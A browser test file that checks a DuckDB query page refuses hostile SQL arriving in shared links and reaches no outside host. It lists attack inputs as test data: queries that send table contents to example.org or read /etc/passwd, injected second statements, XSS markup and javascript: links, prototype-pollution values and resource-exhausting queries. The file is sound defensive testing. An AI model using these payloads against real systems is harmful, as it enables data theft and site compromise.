import type {Browser, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, test} from "vitest";
import {linkHash} from "../../src/components/links.js";
import {launch, open} from "../helpers/browser.js";

let browser: Browser;
let page: Page;
let foreign: string[];
beforeAll(async () => {
  browser = await launch();
  ({page, foreign} = await open(browser, "query.html"));
  await page.waitForSelector(".sql-cell table", {timeout: 30_000});
});
afterAll(() => browser.close());

/** Opens a link of the page that holds a query, as a stranger's message would; `wait` until the query has ended. */
async function follow(sql: string, wait = true): Promise<void> {
  const hash = linkHash({records: sql}, "");
  expect(hash).toContain("#q=");
  await page.evaluate(
    (to) =>
      new Promise((resolve) => {
        // After the cell's own listener, which marks the cell as busy at once.
        addEventListener("popstate", () => setTimeout(resolve), {once: true});
        location.hash = to;
      }),
    hash
  );
  if (wait) await page.waitForFunction(() => !document.querySelector(".sql-cell")!.hasAttribute("aria-busy"));
}

const problem = () => page.locator(".sql-cell .problem").first();
const rows = () => page.locator(".sql-cell tbody").first();

/** The tables answer as they did. */
async function tablesAreWhole(): Promise<void> {
  await follow(`SELECT count(*) AS n, (SELECT count(*) FROM claims) AS m FROM attacks /* ${Math.random()} */`);
  expect(await problem().isVisible()).toBe(false);
  expect(await rows().textContent()).toMatch(/[1-9]\d*/);
  await follow(
    "SELECT view_name FROM duckdb_views() WHERE NOT internal AND view_name NOT IN ('articles', 'sentences', 'mentions', 'reports', 'attacks', 'claims', 'actors', 'places', 'sources')"
  );
  expect(await page.locator(".sql-cell tbody tr").count()).toBe(0);
  await follow("SELECT table_name FROM duckdb_tables()");
  expect(await page.locator(".sql-cell tbody tr").count()).toBe(0);
}

const onlyTables = /Only the tables of this site can be read/;
const notAllowed = /Only queries that read run here.*Not allowed/;

describe("a stranger's link", () => {
  test.each<[string, RegExp]>([
    ["SELECT * FROM read_csv_auto('http://example.org/x.csv')", onlyTables],
    ["SELECT * FROM read_csv_auto('https://example.org/x.csv?' || (SELECT string_agg(quote, '') FROM attacks))", /./],
    ["SELECT * FROM read_parquet(['https://example.org/a.parquet', 'attacks.parquet'])", onlyTables],
    ["SELECT * FROM parquet_metadata('https://example.org/a.parquet')", onlyTables],
    ["FROM 'https://example.org/x.parquet'", onlyTables],
    ["SELECT * FROM 's3://example/x.parquet'", onlyTables],
    ["SELECT * FROM read_csv_auto('//example.org/x.csv')", /No files found/],
    ["SELECT * FROM read_csv_auto('../index.html')", /No files found/],
    ["SELECT * FROM read_csv_auto('/etc/passwd')", /No files found/],
    ["SELECT * FROM read_parquet('blob:https://example.org/1')", /./],
    ["COPY attacks TO 'https://example.org/x.csv'", notAllowed],
    ["COPY (SELECT 1) TO 'x.csv'", notAllowed],
    ["ATTACH 'https://example.org/x.db'", notAllowed],
    ["INSTALL httpfs", notAllowed],
    ["LOAD 'https://example.org/x.duckdb_extension'", notAllowed],
    ["SET lock_configuration = false", notAllowed],
    ["RESET memory_limit", notAllowed],
    ["PRAGMA enable_profiling", notAllowed],
    ["EXPORT DATABASE 'x'", notAllowed],
    ["IMPORT DATABASE 'x'", notAllowed],
    ["CREATE OR REPLACE VIEW attacks AS SELECT 1", notAllowed],
    ["CREATE TABLE x AS SELECT 1", notAllowed],
    ["CREATE MACRO lower(x) AS 'hacked'", notAllowed],
    ["DROP VIEW attacks", notAllowed],
    ["CALL pragma_version()", notAllowed],
    ["USE temp", notAllowed],
    ["BEGIN", notAllowed],
    ["CHECKPOINT", notAllowed],
    ["EXPLAIN ANALYZE CREATE VIEW hacked AS SELECT 1", notAllowed],
    ["-- \r CREATE VIEW hacked AS SELECT 1", notAllowed],
    ["/* /* */ SELECT 1 */ CREATE VIEW hacked AS SELECT 1", notAllowed],
    ["\u200bCREATE VIEW hacked AS SELECT 1", notAllowed],
    ["SELECT 1; CREATE VIEW hacked AS SELECT 1", /One query at a time/],
    ["SELECT 1 AS a$$; CREATE VIEW hacked AS SELECT 1 --$$", /One query at a time/],
    ["SELECT E'\\''; CREATE VIEW hacked AS SELECT 1 --'", /One query at a time/],
    ["SELECT 1) ; CREATE VIEW hacked AS (SELECT 1", /One query at a time/],
    ["WITH a AS (SELECT 1) INSERT INTO attacks SELECT * FROM a", /not an table/],
    ["WITH a AS (SELECT 1) DELETE FROM attacks", /Can only delete from base table/],
    ["SELECT getenv('HOME')", /getenv does not exist/],
    ["PIVOT attacks ON country USING count(*)", /PIVOT needs its values named/],
    ["SELECT string_agg(repeat('x', 1000), '') AS t FROM range(3000000)", /more than the database can hold/],
    ["SELECT 'a'::ENUM('a', 'b') AS e", /type cannot be shown.*CAST/],
    ["SELECT union_value(k := 1) AS u", /type cannot be shown.*CAST/],
    ["SELECT [1.5, 2] AS l", /type cannot be shown.*CAST/],
    ["SELECT {'a': count(*)} AS s FROM attacks", /type cannot be shown.*CAST/],
    ["SELECT INTERVAL 3 DAY AS i", /type cannot be shown.*CAST/],
    ["SELECT TIME '10:00:00' AS t", /type cannot be shown.*CAST/],
    ["-- nothing but a note", /There is no query/]
  ])("with %j is refused, and says why", async (sql, message) => {
    await follow(sql);
    expect(await problem().isVisible()).toBe(true);
    expect(await problem().textContent()).toMatch(message);
    expect(foreign).toEqual([]);
  });

  test("has changed no table", tablesAreWhole);

  test("with names and values that nobody expects shows each as it is, and as much of it as a page can", async () => {
    await follow(
      `SELECT 1 AS a, 2 AS a, 3 AS "__proto__", 4 AS "constructor", DATE '290000-01-01' AS d, range(3000)::INTEGER[] AS l, repeat('x', 90000) AS t`
    );
    expect(await problem().isVisible()).toBe(false);
    const texts = (part: string) => page.locator(`.sql-cell ${part}`).allTextContents();
    expect(await texts("thead th")).toEqual(["a", "a_1", "__proto__", "constructor", "d", "l", "t"]);
    const cells = await texts("tbody td");
    expect(cells.slice(0, 5)).toEqual(["1", "2", "3", "4", "?"]);
    expect(cells[5]).toMatch(/, 199 … \(\+2,800\)$/);
    expect(cells[6]).toMatch(/^x{10000}…$/);
  });

  test.each([
    [
      "markup in a literal",
      "SELECT '<img src=x onerror=\"document.title=''hacked''\">' AS a, '<script>document.title=1</script>' AS b"
    ],
    [
      "markup in a column's name",
      `SELECT 1 AS "<img src=x onerror=document.title='hacked'>", 2 AS "</th><script>document.title=1</script>"`
    ],
    ["markup in the text of an error", `SELECT "<img src=x onerror=document.title='hacked'>" FROM attacks`],
    ["markup in a comment", "SELECT 1 AS n -- </pre><img src=x onerror=document.title=1>"],
    ["markup in dollar quotes", "SELECT $x$</td><svg onload=document.title=1>$x$ AS a"],
    ["a way to turn the text around", "SELECT '\u202egnp.exe' AS a, chr(8238) || 'x' AS b"],
    [
      "a link that is no link",
      "SELECT 'javascript:document.title=1' AS url, 'javascript:document.title=1' AS article, 'x' AS sentence"
    ]
  ])("with %s is text", async (_, sql) => {
    const title = await page.title();
    await follow(sql);
    await page.waitForTimeout(200);
    expect(await page.title()).toBe(title);
    expect(
      await page.locator(".sql-cell :is(img, script, iframe, object), figure.timeline :is(img, script)").count()
    ).toBe(0);
    expect(await page.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0);
    expect(
      await page.evaluate(
        () =>
          [...document.querySelectorAll("main *")].filter((node) =>
            [...node.attributes].some(({name}) => name.startsWith("on"))
          ).length
      )
    ).toBe(0);
  });

  test.each([
    [
      "a cross join of 10^12 rows",
      "SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range * b.range % 7 = 3"
    ],
    [
      "a recursion without end",
      "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t"
    ],
    ["a text of a billion letters", "SELECT repeat('x', 1000000000) AS x"],
    ["a list of a hundred million numbers", "SELECT list(range) FROM range(100000000)"]
  ])("with %s leaves the page alive, and a way out of it", async (_, sql) => {
    await follow(sql, false);
    // The page itself answers while the query runs.
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    await page.waitForTimeout(500);
    const cancel = page.getByRole("button", {name: "Cancel"}).first();
    if (await cancel.isVisible()) {
      await cancel.click();
      await expect.poll(() => page.locator(".sql-cell .status").first().textContent()).toBe("Cancelled.");
    } else expect(await problem().textContent()).toMatch(/A LIMIT or a GROUP BY makes it smaller|Out of Memory/);
    await tablesAreWhole();
  });

  test.each([
    [
      "parentheses within one another",
      `SELECT ${"(".repeat(9_000)}1${")".repeat(9_000)}`,
      /memory exhausted|expression depth|more than the database can hold/i
    ],
    ["a sum of 9,000 terms", `SELECT ${"1+".repeat(9_000)}1`, /expression depth|more than the database can hold/i]
  ])("with %s does not end the database for the next query", async (_, sql, message) => {
    await follow(sql);
    expect(await problem().textContent()).toMatch(message);
    await tablesAreWhole();
  });

  test("of 200 kB is said to be too long, and one of 19,000 letters runs", async () => {
    await follow(`SELECT length('${"x".repeat(190_000)}') AS n`);
    expect(await problem().textContent()).toContain("more letters than the database takes");
    await follow(`SELECT length('${"س".repeat(19_000 - 30)}') AS n`);
    expect(await rows().textContent()).toBe("18970");
    await tablesAreWhole();
  });

  test("reached no host but the site's", () => {
    expect(foreign).toEqual([]);
  });
});

test("a link of states that no input has leaves every input as its author made it", async () => {
  for (const value of [
    {},
    [],
    7,
    null,
    "<img src=x onerror=alert(1)>",
    {__proto__: null, constructor: {prototype: {x: 1}}}
  ]) {
    const {page: other, errors} = await open(browser, `notebook.html${linkHash({}, "", {country: value as never})}`);
    await other.waitForSelector(".sql-cell table", {timeout: 30_000});
    expect(await other.getByLabel("Country", {exact: true}).inputValue()).toBe("LY");
    expect(errors).toEqual([]);
    await other.context().close();
  }
}, 180_000);
